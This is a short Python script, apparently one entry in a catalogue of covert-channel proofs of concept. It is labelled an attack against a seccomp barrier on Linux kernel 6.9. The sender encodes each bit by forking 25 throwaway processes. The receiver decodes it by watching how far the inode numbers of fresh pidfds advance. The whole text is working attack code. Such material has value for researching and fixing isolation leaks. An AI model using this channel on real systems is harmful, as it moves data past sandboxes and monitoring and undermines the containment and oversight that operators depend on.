# attack: processes of the whole machine, counted by the inode number of a pidfd
# wall: seccomp: pidfd_open
# kernel: 6.9
# slot: 0.1
# bits: 17

import os


def count():
    child = os.fork()
    if not child:
        os._exit(0)
    number = os.fstat(os.pidfd_open(child)).st_ino
    os.waitpid(child, 0)
    return number


last = None


def put(n, bit):
    for _ in range(25 * bit):
        if not os.fork():
            os._exit(0)
        os.wait()


def get(n):
    global last
    before, last = last or count(), count()
    return int(last - before > 20)
